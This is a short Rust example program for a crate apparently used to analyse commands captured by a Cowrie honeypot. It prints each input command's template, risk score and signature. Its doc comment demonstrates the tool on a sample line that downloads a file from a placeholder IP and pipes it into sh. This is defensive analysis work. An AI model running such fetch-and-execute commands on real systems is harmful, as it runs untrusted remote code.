//! Reads commands from standard input, one per line, and prints what the crate makes of each.
//!
//! `echo 'wget http://192.0.2.1/x -O- | sh' | cargo run -p cowrie-command --example explain`

use std::io::{self, BufRead as _, Write as _};

use cowrie_command::{risk, signature, template};

fn main() -> io::Result<()> {
    let mut out = io::stdout().lock();
    for line in io::stdin().lock().lines() {
        let command = line?;
        let found = risk(&command);
        writeln!(out, "command    {command:?}")?;
        writeln!(out, "template   {}", template(&command))?;
        writeln!(out, "risk       {} {}", found.score(), found.reason())?;
        writeln!(out, "signature  {}\n", signature([command.as_str()]).unwrap_or_default())?;
    }
    Ok(())
}
